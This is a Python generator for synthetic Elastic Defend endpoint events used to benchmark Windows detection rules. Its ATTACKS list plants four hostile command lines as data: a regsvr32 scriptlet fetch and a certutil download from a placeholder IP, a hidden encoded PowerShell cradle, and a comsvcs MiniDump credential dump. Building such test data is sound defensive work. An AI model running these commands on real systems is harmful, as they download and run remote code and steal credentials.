"""A realistic mix of Elastic Defend events on Windows hosts, as NDJSON, in timestamp order.

`gen_ecs.py` is the engine benchmark's data: eight programs with random parents, so about
one event in ten is something a detection rule flags (Outlook starting cmd.exe, regsvr32
talking to the internet). That measures alert building, not a hunt. Here the programs of
an ordinary Windows estate run under their usual parents with their usual arguments and
signers, libraries load, files and registry values change, names resolve, and a handful of
planted attacks (`--attack-every`) are the only thing Elastic's Windows rules should find.

Category shares are roughly an endpoint's: library 30 %, file 26 %, registry 15 %,
process 13 % (starts and ends), network 10 %, DNS lookups 6 %. ~1 kB per event. Seeded, so
the same arguments always write the same file.

    uv run python bench/gen_defend.py --events 1000000 --out /tmp/defend-1m.ndjson
"""

from __future__ import annotations

import argparse
import hashlib
import random
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson

SYS32 = "C:\\Windows\\System32\\"
PF = "C:\\Program Files\\"
MS = "Microsoft Windows"
# name, executable, arguments, usual parent, signer, integrity level
PROGRAMS: list[tuple[str, str, str, str, str, str]] = [
    (
        "svchost.exe",
        SYS32 + "svchost.exe",
        "-k netsvcs -p -s Schedule",
        "services.exe",
        MS,
        "system",
    ),
    (
        "svchost.exe",
        SYS32 + "svchost.exe",
        "-k LocalService -p -s EventLog",
        "services.exe",
        MS,
        "system",
    ),
    ("RuntimeBroker.exe", SYS32 + "RuntimeBroker.exe", "-Embedding", "svchost.exe", MS, "medium"),
    (
        "backgroundTaskHost.exe",
        SYS32 + "backgroundTaskHost.exe",
        "-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
        "svchost.exe",
        MS,
        "medium",
    ),
    ("taskhostw.exe", SYS32 + "taskhostw.exe", "", "svchost.exe", MS, "medium"),
    (
        "SearchProtocolHost.exe",
        SYS32 + "SearchProtocolHost.exe",
        "Global\\UsGthrFltPipeMssGthrPipe1_",
        "SearchIndexer.exe",
        MS,
        "system",
    ),
    (
        "WmiPrvSE.exe",
        SYS32 + "wbem\\WmiPrvSE.exe",
        "-secured -Embedding",
        "svchost.exe",
        MS,
        "system",
    ),
    (
        "TiWorker.exe",
        "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3561_none_7e1c3f5d2a9e3f0b\\TiWorker.exe",
        "-Embedding",
        "svchost.exe",
        MS,
        "system",
    ),
    (
        "MpCmdRun.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MpCmdRun.exe",
        "SignaturesUpdateService -ScheduleJob -UnmanagedUpdate",
        "MsMpEng.exe",
        "Microsoft Corporation",
        "system",
    ),
    ("conhost.exe", SYS32 + "conhost.exe", "0xffffffff -ForceV1", "cmd.exe", MS, "medium"),
    (
        "chrome.exe",
        PF + "Google\\Chrome\\Application\\chrome.exe",
        "--type=renderer --lang=en-US --renderer-client-id=7",
        "chrome.exe",
        "Google LLC",
        "low",
    ),
    (
        "chrome.exe",
        PF + "Google\\Chrome\\Application\\chrome.exe",
        "",
        "explorer.exe",
        "Google LLC",
        "medium",
    ),
    (
        "msedge.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "--type=utility --utility-sub-type=network.mojom.NetworkService",
        "msedge.exe",
        "Microsoft Corporation",
        "medium",
    ),
    (
        "Teams.exe",
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
        "--type=gpu-process",
        "Teams.exe",
        "Microsoft Corporation",
        "medium",
    ),
    (
        "OUTLOOK.EXE",
        PF + "Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "",
        "explorer.exe",
        "Microsoft Corporation",
        "medium",
    ),
    (
        "WINWORD.EXE",
        PF + "Microsoft Office\\root\\Office16\\WINWORD.EXE",
        '/n "C:\\Users\\{user}\\Documents\\report.docx"',
        "explorer.exe",
        "Microsoft Corporation",
        "medium",
    ),
    (
        "EXCEL.EXE",
        PF + "Microsoft Office\\root\\Office16\\EXCEL.EXE",
        "",
        "explorer.exe",
        "Microsoft Corporation",
        "medium",
    ),
    (
        "OneDrive.exe",
        "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
        "/background",
        "explorer.exe",
        "Microsoft Corporation",
        "medium",
    ),
    (
        "notepad.exe",
        SYS32 + "notepad.exe",
        "C:\\Users\\{user}\\Desktop\\notes.txt",
        "explorer.exe",
        MS,
        "medium",
    ),
    (
        "Code.exe",
        "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
        "",
        "explorer.exe",
        "Microsoft Corporation",
        "medium",
    ),
    (
        "git.exe",
        PF + "Git\\cmd\\git.exe",
        "status --porcelain",
        "Code.exe",
        "Johannes Schindelin",
        "medium",
    ),
    (
        "python.exe",
        PF + "Python311\\python.exe",
        "-m pip list",
        "Code.exe",
        "Python Software Foundation",
        "medium",
    ),
    ("msiexec.exe", SYS32 + "msiexec.exe", "/V", "services.exe", MS, "system"),
    (
        "GoogleUpdate.exe",
        "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
        "/ua /installsource scheduler",
        "svchost.exe",
        "Google LLC",
        "system",
    ),
    (
        "SecurityHealthSystray.exe",
        SYS32 + "SecurityHealthSystray.exe",
        "",
        "explorer.exe",
        MS,
        "medium",
    ),
    ("ctfmon.exe", SYS32 + "ctfmon.exe", "", "svchost.exe", MS, "medium"),
    ("smartscreen.exe", SYS32 + "smartscreen.exe", "-Embedding", "svchost.exe", MS, "medium"),
    (
        "consent.exe",
        SYS32 + "consent.exe",
        "1044 328 000001E1B2C3D4E0",
        "svchost.exe",
        MS,
        "system",
    ),
]
# Planted, rare: what the rules exist for.
ATTACKS: list[tuple[str, str, str, str, str, str]] = [
    (
        "regsvr32.exe",
        SYS32 + "regsvr32.exe",
        "/s /n /u /i:http://198.51.100.7/a.sct scrobj.dll",
        "WINWORD.EXE",
        MS,
        "medium",
    ),
    (
        "powershell.exe",
        SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
        "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        "cmd.exe",
        MS,
        "high",
    ),
    (
        "certutil.exe",
        SYS32 + "certutil.exe",
        "-urlcache -split -f http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe",
        "cmd.exe",
        MS,
        "medium",
    ),
    (
        "rundll32.exe",
        SYS32 + "rundll32.exe",
        "C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full",
        "cmd.exe",
        MS,
        "high",
    ),
]
DLLS = [
    "ntdll.dll",
    "kernel32.dll",
    "KernelBase.dll",
    "user32.dll",
    "advapi32.dll",
    "combase.dll",
    "ole32.dll",
    "rpcrt4.dll",
    "sechost.dll",
    "ws2_32.dll",
    "crypt32.dll",
    "bcrypt.dll",
    "winhttp.dll",
    "dnsapi.dll",
    "shell32.dll",
    "uxtheme.dll",
    "dwmapi.dll",
    "msvcp_win.dll",
]
FILE_DIRS = [
    "C:\\Users\\{user}\\AppData\\Local\\Temp\\",
    "C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\",
    "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\",
    "C:\\Windows\\Prefetch\\",
    "C:\\Windows\\Logs\\CBS\\",
    "C:\\Users\\{user}\\Documents\\",
]
FILE_EXTS = ["tmp", "log", "dat", "json", "etl", "pf", "db-journal", "txt", "docx", "xlsx"]
REG_KEYS = [
    "HKLM\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\{sid}\\\\Device\\HarddiskVolume3\\Windows\\System32\\{exe}",
    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}}\\Count\\{exe}",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
    "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\LastUpdated",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\"
    "GoogleUpdateTaskMachineUA\\Index",
]
DOMAINS = [
    "www.google.com",
    "outlook.office365.com",
    "login.microsoftonline.com",
    "teams.microsoft.com",
    "edgedl.me.gvt1.com",
    "settings-win.data.microsoft.com",
    "ctldl.windowsupdate.com",
    "intranet.corp.example",
]
PARENTS = {
    "explorer.exe": "C:\\Windows\\explorer.exe",
    "chrome.exe": PF + "Google\\Chrome\\Application\\chrome.exe",
    "msedge.exe": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "Teams.exe": "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
    "Code.exe": "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
    "MsMpEng.exe": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\"
    "MsMpEng.exe",
}
# Programs that talk to the network (connections and lookups come from these).
NETWORKED = frozenset(
    {
        "svchost.exe",
        "chrome.exe",
        "msedge.exe",
        "Teams.exe",
        "OUTLOOK.EXE",
        "OneDrive.exe",
        "GoogleUpdate.exe",
        "Code.exe",
        "git.exe",
        "python.exe",
        "MpCmdRun.exe",
    }
)
START_NS = int(datetime(2025, 6, 1, tzinfo=UTC).timestamp()) * 1_000_000_000
# (cumulative share, kind)
MIX = [
    (0.30, "library"),
    (0.56, "file"),
    (0.71, "registry"),
    (0.78, "start"),
    (0.84, "end"),
    (0.94, "network"),
    (1.00, "dns"),
]


def _iso(ns: int) -> str:
    dt = datetime.fromtimestamp(ns // 1_000_000_000, UTC)
    return dt.strftime("%Y-%m-%dT%H:%M:%S") + f".{ns // 1_000_000 % 1000:03d}Z"


def _sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def _args(executable: str, arguments: str) -> list[str]:
    return [executable, *arguments.split()]


class Generator:
    """Hosts with live processes; each event refers to one of them."""

    def __init__(self, seed: int, hosts: int, attack_every: int) -> None:
        self.rng = random.Random(seed)
        self.attack_every = attack_every
        self.serial = 0
        self.count = 0
        self.hosts: list[dict[str, Any]] = [
            {
                "id": _sha(f"host{i}")[:32],
                "name": f"ws-{i:05d}",
                "hostname": f"ws-{i:05d}",
                "os": {
                    "type": "windows",
                    "family": "windows",
                    "platform": "windows",
                    "name": "Windows 10 Pro",
                    "version": "22H2",
                    "kernel": "22H2 (10.0.19045.3693)",
                },
                "architecture": "x86_64",
                "ip": [f"10.{i // 250}.{i % 250}.{10 + i % 200}"],
            }
            for i in range(hosts)
        ]
        self.users = {
            h["id"]: (f"user{i:04d}", f"S-1-5-21-1004336348-1177238915-682003330-{1100 + i}")
            for i, h in enumerate(self.hosts)
        }
        self.live: dict[str, list[dict[str, Any]]] = {h["id"]: [] for h in self.hosts}

    def _process(self, host: dict[str, Any], attack: bool) -> dict[str, Any]:
        rng = self.rng
        name, exe, args, parent, signer, level = rng.choice(ATTACKS if attack else PROGRAMS)
        user, _ = self.users[host["id"]]
        exe, args = exe.replace("{user}", user), args.replace("{user}", user)
        self.serial += 1
        command = f'"{exe}" {args}'.strip()
        parent_exe = PARENTS.get(parent, SYS32 + parent).replace("{user}", user)
        return {
            "pid": rng.randint(100, 65000),
            "entity_id": _sha(f"{host['id']}-{self.serial}")[:40],
            "name": name,
            "executable": exe,
            "command_line": command,
            "args": _args(exe, args),
            "args_count": 1 + len(args.split()),
            "working_directory": f"C:\\Users\\{user}\\",
            "hash": {"sha256": _sha(exe)},
            "pe": {
                "original_file_name": name.upper() if name.isupper() else name,
                "company": signer,
                "product": name.removesuffix(".exe"),
            },
            "code_signature": {
                "trusted": True,
                "subject_name": signer,
                "status": "trusted",
                "exists": True,
            },
            "parent": {
                "name": parent,
                "executable": parent_exe,
                "pid": rng.randint(100, 65000),
                "entity_id": _sha(f"{host['id']}-p{self.serial}")[:40],
            },
            "Ext": {"token": {"integrity_level_name": level}},
        }

    def _brief(self, proc: dict[str, Any]) -> dict[str, Any]:
        return {k: proc[k] for k in ("pid", "entity_id", "name", "executable")}

    def event(self, ts: int) -> dict[str, Any]:
        rng = self.rng
        self.count += 1
        host = rng.choice(self.hosts)
        proc: dict[str, Any] = {}
        user, sid = self.users[host["id"]]
        procs = self.live[host["id"]]
        roll = rng.random()
        kind = next(k for share, k in MIX if roll < share)
        attack = self.attack_every > 0 and self.count % self.attack_every == 0
        if attack or not procs:
            kind = "start"
        else:
            proc = rng.choice(procs)
            if kind in ("network", "dns") and proc["name"] not in NETWORKED:
                proc = next((p for p in reversed(procs) if p["name"] in NETWORKED), proc)
                if proc["name"] not in NETWORKED:
                    kind = "library"
        base: dict[str, Any] = {
            "@timestamp": _iso(ts),
            "agent": {"type": "endpoint", "version": "8.11.1", "id": host["id"][:36]},
            "data_stream": {
                "type": "logs",
                "dataset": f"endpoint.events.{kind}",
                "namespace": "default",
            },
            "ecs": {"version": "8.10.0"},
            "host": host,
            "user": {"name": user, "domain": "CORP", "id": sid},
            "event": {
                "kind": "event",
                "module": "endpoint",
                "dataset": f"endpoint.events.{kind}",
                "id": _sha(f"e{self.count}")[:24],
                "outcome": "success",
            },
        }
        if kind == "start":
            proc = self._process(host, attack)
            procs.append(proc)
            if len(procs) > 12:
                procs.pop(0)
            base["event"] |= {"category": ["process"], "type": ["start"], "action": "start"}
            base["process"] = proc
            return base
        base["process"] = self._brief(proc)
        if kind == "end":
            base["event"] |= {"category": ["process"], "type": ["end"], "action": "end"}
            base["process"] = proc | {"exit_code": 0}
        elif kind == "library":
            dll = rng.choice(DLLS)
            base["event"] |= {"category": ["library"], "type": ["start"], "action": "load"}
            base["dll"] = {
                "name": dll,
                "path": SYS32 + dll,
                "hash": {"sha256": _sha(dll)},
                "code_signature": {
                    "trusted": True,
                    "subject_name": MS,
                    "status": "trusted",
                    "exists": True,
                },
                "pe": {"original_file_name": dll.upper()},
            }
        elif kind == "file":
            ext = rng.choice(FILE_EXTS)
            folder = rng.choice(FILE_DIRS).replace("{user}", user)
            name = f"{rng.randint(0, 99999):05d}.{ext}"
            action = rng.choice(["creation", "overwrite", "deletion", "rename"])
            base["event"] |= {
                "category": ["file"],
                "type": ["change" if action != "creation" and action != "deletion" else action],
                "action": action,
            }
            base["file"] = {
                "path": folder + name,
                "name": name,
                "extension": ext,
                "size": rng.randint(0, 1 << 20),
            }
        elif kind == "registry":
            exe = proc["name"]
            path = rng.choice(REG_KEYS).format(sid=sid, exe=exe)
            base["event"] |= {
                "category": ["registry"],
                "type": ["change"],
                "action": "modification",
            }
            base["registry"] = {
                "path": path,
                "key": path.partition("\\")[2].rpartition("\\")[0],
                "value": path.rpartition("\\")[2],
                "hive": path.partition("\\")[0],
                "data": {"strings": [str(rng.randint(0, 1 << 31))], "type": "REG_QWORD"},
            }
        elif kind == "network":
            internal = rng.random() < 0.3
            dst = (
                f"10.{rng.randint(0, 40)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
                if internal
                else f"{rng.choice([13, 20, 40, 52, 142, 151])}.{rng.randint(0, 255)}."
                f"{rng.randint(0, 255)}.{rng.randint(1, 254)}"
            )
            base["event"] |= {
                "category": ["network"],
                "type": ["start"],
                "action": "connection_attempted",
            }
            base["network"] = {"direction": "egress", "transport": "tcp", "type": "ipv4"}
            base["source"] = {"ip": host["ip"][0], "port": rng.randint(49152, 65535)}
            base["destination"] = {
                "ip": dst,
                "port": 443 if not internal else rng.choice([443, 8080, 53]),
            }
        else:
            name = rng.choice(DOMAINS)
            base["event"] |= {
                "category": ["network"],
                "type": ["protocol", "info"],
                "action": "lookup_requested",
            }
            base["network"] = {"protocol": "dns"}
            base["dns"] = {"question": {"name": name, "type": "A"}}
        return base


def generate(
    count: int, seed: int = 11, hosts: int = 300, attack_every: int = 50_000
) -> Iterator[dict[str, Any]]:
    """`count` events, ~4 ms apart on average, in timestamp order."""
    gen = Generator(seed, hosts, attack_every)
    ts = START_NS
    for _ in range(count):
        ts += gen.rng.randint(0, 8) * 1_000_000
        yield gen.event(ts)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--seed", type=int, default=11)
    parser.add_argument(
        "--attack-every", type=int, default=50_000, help="one planted attack per N events (0: none)"
    )
    parser.add_argument("--out", type=Path, required=True)
    args = parser.parse_args()
    with args.out.open("wb") as out:
        for doc in generate(args.events, args.seed, attack_every=args.attack_every):
            out.write(orjson.dumps(doc) + b"\n")


if __name__ == "__main__":
    main()
